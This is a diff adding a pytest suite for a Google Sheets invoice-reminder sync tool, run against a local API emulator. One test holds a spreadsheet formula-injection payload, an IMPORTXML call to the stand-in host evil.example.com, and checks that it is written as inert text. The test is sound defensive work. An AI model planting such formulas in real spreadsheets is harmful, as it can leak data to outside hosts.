@@ -1,0 +1,338 @@
+"""Google Sheets through the real gspread client, against the Sheets API v4 emulator on 127.0.0.1."""
+from __future__ import annotations
+
+import json
+from datetime import date, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from sheet_sync import api
+from sheet_sync.cli import main
+from sheet_sync.config import load_config
+from sheet_sync.errors import SheetSyncError
+from sheets_emulator import EPOCH, Emulator, service_account_key, serial
+from workbooks import CLIENT_HEADERS, DEFAULT_CLIENTS, INVOICE_HEADERS, invoice, simple_book, write_config
+
+AS_OF = date(2026, 11, 23)  # Monday
+TOOL = ["Balance", "Days Overdue", "Aging Bucket", "Sync Status", "Last Reminder", "Next Reminder", "Sync Notes"]
+
+
+@pytest.fixture
+def emulator():
+    em = Emulator().start()
+    yield em
+    em.stop()
+
+
+@pytest.fixture(autouse=True)
+def no_google_credentials(monkeypatch):
+    monkeypatch.delenv("GOOGLE_SERVICE_ACCOUNT_JSON", raising=False)
+    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
+    monkeypatch.delenv("SHEET_SYNC_GOOGLE_API_ENDPOINT", raising=False)
+
+
+def sheet_config(folder: Path, emulator: Emulator, extra: str = ""):
+    text = f"""
+[business]
+name = "Test Studio"
+payment_instructions = "Bank transfer to account 123."
+[workbook]
+google_sheet = "https://docs.google.com/spreadsheets/d/{emulator.key}/edit#gid=0"
+[google]
+api_endpoint = "{emulator.url}"
+[mail]
+transport = "outbox"
+from = "billing@studio.example.com"
+outbox_dir = "outbox"
+{extra}
+"""
+    path = folder / "sheet-sync.toml"
+    path.write_text(text, encoding="utf-8")
+    return load_config(path)
+
+
+def google_book(emulator: Emulator, invoices, clients=None) -> None:
+    emulator.add_sheet("Clients", [CLIENT_HEADERS, *(clients if clients is not None else DEFAULT_CLIENTS)])
+    emulator.add_sheet("Invoices", [INVOICE_HEADERS, *invoices])
+
+
+def records(rows: list[list[Any]]) -> dict[str, dict]:
+    headers = rows[0]
+    out = {}
+    for row in rows[1:]:
+        rec = dict(zip(headers, list(row) + [None] * (len(headers) - len(row))))
+        out[rec["Invoice No"] or f"row{len(out)}"] = rec
+    return out
+
+
+def norm(v: Any) -> Any:
+    """One form for a cell read from either backend: numbers exact, dates as serials, blanks None."""
+    if v is None or v == "":
+        return None
+    if isinstance(v, datetime):
+        v = v.date()
+    if isinstance(v, date):
+        return (v - EPOCH).days
+    if isinstance(v, bool):
+        return v
+    if isinstance(v, (int, float, Decimal)):
+        return Decimal(str(v))
+    return v
+
+
+def grid(rows) -> list[list[Any]]:
+    out = [[norm(v) for v in row] for row in rows]
+    for row in out:
+        while row and row[-1] is None:
+            row.pop()
+    while out and not out[-1]:
+        out.pop()
+    return out
+
+
+def excel_grid(path: Path, sheet: str) -> list[list[Any]]:
+    return grid(openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True))
+
+
+PARITY_INVOICES = [
+    invoice("P-1", due=AS_OF - timedelta(days=2)),
+    invoice("P-2", "C2", due=AS_OF - timedelta(days=50), currency="KRW", amount=1200000, paid=200000),
+    invoice("P-3", due=AS_OF - timedelta(days=5), amount="abc"),
+    invoice("P-4", "C3", due=AS_OF + timedelta(days=3), currency="CNY", amount="8,000.50"),
+    invoice("P-5", due=AS_OF - timedelta(days=31), amount=700, paid=700, paid_date=AS_OF - timedelta(days=3)),
+    invoice("P-6", due=AS_OF - timedelta(days=91), status="Disputed"),
+    invoice("P-7", due=AS_OF - timedelta(days=61), hold=AS_OF + timedelta(days=10)),
+    invoice("P-8", "C404", due=AS_OF - timedelta(days=1)),
+    invoice("P-9", due=None, issue=AS_OF - timedelta(days=45), po="PO-77"),
+    invoice("P-10", "C2", due=AS_OF - timedelta(days=30), currency="KRW", amount="₩350,000"),
+    ["", "C1", AS_OF, AS_OF, "USD", 10, None, None, "", None, "", "", ""],
+]
+
+
+def test_same_results_as_the_excel_backend(tmp_path, emulator):
+    """A parity test: one book, two backends, two days of runs, the same sheets and the same messages."""
+    xdir, gdir = tmp_path / "excel", tmp_path / "google"
+    xdir.mkdir(), gdir.mkdir()
+    wb = simple_book(xdir / "book.xlsx", PARITY_INVOICES)
+    xconfig = write_config(xdir, wb)
+    google_book(emulator, PARITY_INVOICES)
+    gconfig = sheet_config(gdir, emulator)
+
+    for day in (AS_OF, AS_OF + timedelta(days=3), AS_OF + timedelta(days=8)):
+        x = api.sync(xconfig, as_of=day)
+        g = api.sync(gconfig, as_of=day)
+        assert [(m.invoice_no, m.stage, m.to, m.subject, m.state) for m in g.messages] == \
+               [(m.invoice_no, m.stage, m.to, m.subject, m.state) for m in x.messages], day
+        assert g.exit_code == x.exit_code == 1
+        for sheet in ("Invoices", "Aging", "Aging Summary"):
+            assert grid(emulator.values(sheet)) == excel_grid(wb, sheet), (day, sheet)
+        glog = [row[1:] for row in grid(emulator.values("Reminder Log"))]  # Logged At is the clock's
+        xlog = [row[1:] for row in excel_grid(wb, "Reminder Log")]
+        assert glog == xlog, day
+        assert sorted(p.name for p in (gdir / "outbox").glob("*.eml")) == sorted(p.name for p in (xdir / "outbox").glob("*.eml"))
+    assert len(x.messages) > 0  # the last day sent something too: the logs were read back on both
+
+
+def test_a_sync_reads_and_writes_in_at_most_six_requests(tmp_path, emulator):
+    google_book(emulator, [invoice("R-1", due=AS_OF - timedelta(days=2)), invoice("R-2", due=AS_OF + timedelta(days=40))])
+    config = sheet_config(tmp_path, emulator)
+    first = api.sync(config, as_of=AS_OF)
+    assert [(m.invoice_no, m.state) for m in first.messages] == [("R-1", "sent")]
+    kinds = [(method, path.rsplit("/", 1)[-1].split("!")[0]) for method, path in emulator.requests]
+    assert kinds == [("GET", "test-sheet-key"), ("GET", "values:batchGet"), ("POST", "test-sheet-key:batchUpdate"),
+                     ("GET", "'Invoices'"), ("POST", "test-sheet-key:batchUpdate"), ("POST", "values:batchUpdate")]
+    emulator.requests.clear()
+    again = api.sync(config, as_of=AS_OF)
+    assert again.messages == ()
+    assert len(emulator.requests) == 5  # nothing to record as pending
+    assert len(emulator.values("Reminder Log")) == 2  # header and one row: nothing doubled
+
+
+def big_book(emulator: Emulator, n: int) -> None:
+    """n invoices, a few hundred due for a reminder, the rest current or paid."""
+    clients = [[f"C{k}", f"Client {k}", f"ap{k}@client{k}.example.com", "", "", "en", "Net 30", ""] for k in range(200)]
+    rows = []
+    for i in range(n):
+        late = i % 250 == 0
+        due = AS_OF - timedelta(days=2) if late else AS_OF + timedelta(days=20 + i % 30)
+        paid = None if late or i % 3 else 100 + i % 900
+        rows.append(invoice(f"INV-{i:05d}", f"C{i % 200}", due=due, amount=100 + i % 900, paid=paid))
+    google_book(emulator, rows, clients)
+
+
+@pytest.mark.parametrize("n", [10, 1_000, 50_000])
+def test_request_count_does_not_grow_with_the_rows(tmp_path, emulator, n):
+    big_book(emulator, n)
+    config = sheet_config(tmp_path, emulator)
+    result = api.sync(config, as_of=AS_OF)
+    assert len(result.sent) == (n + 249) // 250
+    assert len(emulator.requests) <= 6, emulator.requests
+    values = records(emulator.values("Invoices"))
+    assert len(values) == n
+    last = values[f"INV-{n - 1:05d}"]
+    assert last["Sync Status"] in ("Current", "Paid") and last["Balance"] is not None
+    assert values["INV-00000"]["Last Reminder"] == "2026-11-23 gentle"
+
+
+def test_a_sort_and_an_insert_between_read_and_write_land_every_status_on_its_invoice(tmp_path, emulator):
+    rows = [invoice(f"S-{n}", due=AS_OF - timedelta(days=n * 10)) for n in range(1, 8)]
+    google_book(emulator, rows)
+    config = sheet_config(tmp_path, emulator)
+    sheet = emulator.sheet("Invoices")
+
+    def owner_edits(method: str, path: str) -> None:
+        if method == "GET" and "/values/" in path and "Invoices" in path:  # the re-read just before writing
+            data = [[sheet.cells.get((r, c)) for c in range(1, len(INVOICE_HEADERS) + 1)] for r in range(2, 9)]
+            data.sort(key=lambda row: row[0], reverse=True)  # the owner sorts Z→A
+            data.insert(3, ["NEW-1", "C1", serial(AS_OF), serial(AS_OF), "USD", 5])  # and inserts a row
+            for key in [k for k in sheet.cells if k[0] >= 2]:
+                del sheet.cells[key]
+            sheet.set_rows(data, top=2)
+
+    emulator.before_request = owner_edits
+    api.sync(config, as_of=AS_OF)
+    got = records(emulator.values("Invoices"))
+    for n in range(1, 8):
+        assert got[f"S-{n}"]["Days Overdue"] == n * 10, n
+        assert got[f"S-{n}"]["Invoice No"] == f"S-{n}"
+    assert got["NEW-1"]["Sync Status"] is None  # not in the read: left for the next run
+    emulator.before_request = None
+    api.sync(config, as_of=AS_OF)
+    assert records(emulator.values("Invoices"))["NEW-1"]["Sync Status"] == "Due Soon"
+
+
+def test_text_that_looks_like_a_formula_is_written_raw(tmp_path, emulator):
+    clients = [["C1", "=IMPORTXML(\"http://evil.example.com\",\"//a\")", "ap@acme.example.com", "", "", "en", "Net 30", ""]]
+    google_book(emulator, [invoice("F-1", due=AS_OF - timedelta(days=2), note="+1 call me")], clients)
+    config = sheet_config(tmp_path, emulator)
+    api.sync(config, as_of=AS_OF)
+    aging = records(emulator.values("Aging"))
+    assert aging["F-1"]["Client"] == "=IMPORTXML(\"http://evil.example.com\",\"//a\")"  # a string, not a formula
+    assert not any(isinstance(v, dict) for s in emulator.sheets for v in s.cells.values())
+
+
+def test_tool_sheets_get_a_frozen_header_a_filter_date_formats_and_a_chart(tmp_path, emulator):
+    google_book(emulator, PARITY_INVOICES)
+    emulator.sheet("Invoices").formats[(2, 6)] = "#,##0.00 [$USD]"  # the owner's own format
+    config = sheet_config(tmp_path, emulator)
+    api.sync(config, as_of=AS_OF)
+    aging = emulator.sheet("Aging")
+    assert aging.frozen_rows == 1 and aging.basic_filter is not None
+    headers = emulator.values("Aging")[0]
+    due_col = headers.index("Due Date") + 1
+    assert aging.formats[(2, due_col)] == "yyyy-mm-dd"
+    assert isinstance(aging.cells[(2, due_col)], int)  # a date serial, not text
+    summary = emulator.sheet("Aging Summary")
+    assert len(summary.charts) == 1
+    assert emulator.sheet("Invoices").formats[(2, 6)] == "#,##0.00 [$USD]"
+    # a second run replaces the Summary (one chart, not two) and keeps the sheet order
+    order = [s.title for s in emulator.sheets]
+    api.sync(config, as_of=AS_OF + timedelta(days=1))
+    assert len(emulator.sheet("Aging Summary").charts) == 1
+    assert [s.title for s in emulator.sheets] == order
+
+
+def test_quota_429_is_retried_honouring_retry_after(tmp_path, emulator):
+    google_book(emulator, [invoice("Q-1", due=AS_OF - timedelta(days=2))])
+    config = sheet_config(tmp_path, emulator)
+    emulator.retry_after = "0"
+    emulator.fail_next = [429, 429, 503]
+    result = api.sync(config, as_of=AS_OF)
+    assert [m.state for m in result.messages] == ["sent"]
+    assert len(emulator.requests) == 6 + 3
+    assert records(emulator.values("Invoices"))["Q-1"]["Sync Status"] == "Overdue"
+
+
+def test_a_persistent_429_gives_up_with_a_sentence_and_sends_nothing(tmp_path, emulator, capsys):
+    google_book(emulator, [invoice("Q-1", due=AS_OF - timedelta(days=2))])
+    sheet_config(tmp_path, emulator)
+    emulator.retry_after = "0"
+    emulator.fail_next = [429] * 50
+    code = main(["sync", "--config", str(tmp_path / "sheet-sync.toml"), "--as-of", AS_OF.isoformat()])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert "kept answering 429" in err and "after 5 tries" in err and "Traceback" not in err
+    assert len(emulator.requests) == 5
+    assert not (tmp_path / "outbox").exists()
+
+
+def test_a_write_that_fails_after_sending_leaves_pending_rows_that_are_never_resent(tmp_path, emulator):
+    google_book(emulator, [invoice("K-1", due=AS_OF - timedelta(days=2))])
+    config = sheet_config(tmp_path, emulator)
+    emulator.retry_after = "0"
+
+    def values_write_fails(method: str, path: str) -> None:
+        if path.endswith("values:batchUpdate"):
+            emulator.fail_next = [503]
+
+    emulator.before_request = values_write_fails
+    with pytest.raises(SheetSyncError, match="kept answering 503"):
+        api.sync(config, as_of=AS_OF)
+    assert len(list((tmp_path / "outbox").glob("*.eml"))) == 1  # it was sent, but never recorded as sent
+    log = records(emulator.values("Reminder Log"))
+    assert log["K-1"]["State"] == "pending"
+
+    emulator.before_request = None
+    emulator.fail_next = []
+    again = api.sync(config, as_of=AS_OF + timedelta(days=1))
+    assert again.messages == () and again.unconfirmed == ("K-1",)
+    assert len(list((tmp_path / "outbox").glob("*.eml"))) == 1
+    log = emulator.values("Reminder Log")
+    assert [row[8] for row in log[1:]] == ["unconfirmed"]
+    assert "unconfirmed" in records(emulator.values("Invoices"))["K-1"]["Sync Notes"]
+
+
+def test_a_service_account_signs_in_with_its_key_and_an_unshared_sheet_names_its_email(tmp_path, emulator, monkeypatch,
+                                                                                      capsys):
+    google_book(emulator, [invoice("A-1", due=AS_OF - timedelta(days=2))])
+    key = service_account_key(emulator)
+    monkeypatch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", json.dumps(key))
+    sheet_config(tmp_path, emulator)
+    emulator.shared_with = "someone-else@example.com"
+    args = ["sync", "--config", str(tmp_path / "sheet-sync.toml"), "--as-of", AS_OF.isoformat()]
+    assert main(args) == 2
+    err = capsys.readouterr().err
+    assert "not shared with sheet-sync@books-123.iam.gserviceaccount.com" in err
+    assert emulator.scopes_asked == ["https://www.googleapis.com/auth/spreadsheets"]  # that scope only
+
+    emulator.shared_with = key["client_email"]
+    assert main(args) == 0
+    out = capsys.readouterr()
+    assert key["private_key"].splitlines()[1] not in out.out + out.err
+    assert records(emulator.values("Invoices"))["A-1"]["Sync Status"] == "Overdue"
+
+
+def test_credentials_errors_are_one_sentence(tmp_path, emulator, monkeypatch, capsys):
+    google_book(emulator, [invoice("A-1", due=AS_OF - timedelta(days=2))])
+    sheet_config(tmp_path, emulator)
+    args = ["check", "--config", str(tmp_path / "sheet-sync.toml")]
+
+    monkeypatch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", '{"type": "authorized_user", "refresh_token": "s3cret-refresh"}')
+    assert main(args) == 2
+    err = capsys.readouterr().err
+    assert "not a service account's JSON key" in err and "s3cret-refresh" not in err
+
+    monkeypatch.delenv("GOOGLE_SERVICE_ACCOUNT_JSON")
+    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "missing.json"))
+    assert main(args) == 2
+    assert "Cannot read the Google credentials file" in capsys.readouterr().err
+
+    old_key = service_account_key(emulator)
+    service_account_key(emulator)  # the key is replaced: Google no longer accepts the old one
+    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS")
+    monkeypatch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", json.dumps(old_key))
+    assert main(args) == 2
+    err = capsys.readouterr().err
+    assert "Google refused the service account's key" in err and "Traceback" not in err
+
+
+def test_a_wrong_key_or_url_is_a_sentence(tmp_path, emulator, capsys):
+    google_book(emulator, [])
+    sheet_config(tmp_path, emulator)
+    emulator.key = "another-key-entirely"
+    assert main(["check", "--config", str(tmp_path / "sheet-sync.toml")]) == 2
+    assert "There is no Google Sheet with the key test-sheet-key" in capsys.readouterr().err
